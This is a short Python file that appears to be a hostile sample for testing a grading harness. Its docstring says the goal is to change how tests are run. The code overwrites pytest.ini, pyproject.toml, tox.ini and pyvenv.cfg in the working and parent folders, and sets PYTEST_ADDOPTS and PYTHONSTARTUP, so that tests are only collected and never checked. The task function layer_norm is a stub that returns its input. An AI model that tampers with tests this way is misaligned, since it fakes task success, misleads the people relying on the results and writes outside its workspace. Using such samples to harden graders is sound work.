"""Goal: change how the tests are run by conftest.py, pytest.ini and files that Python loads.

At most: 0
"""

import os

SETTINGS = {
    "pytest.ini": "[pytest]\naddopts = --collect-only -p no:assertion\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--exitfirst"\n',
    "tox.ini": "[pytest]\npython_files = none.py\n",
    "pyvenv.cfg": "home = /tmp/gradeformer-hostile\n",
}
for folder in (".", ".."):
    for name, text in SETTINGS.items():
        try:
            # Below the parent only with a name that can be told from others.
            path = os.path.join(folder, "gradeformer-hostile-" * (folder == "..") + name)
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            continue
os.environ["PYTEST_ADDOPTS"] = "--collect-only"
os.environ["PYTHONSTARTUP"] = "sitecustomize.py"


def layer_norm(x, eps=1e-5):
    return x
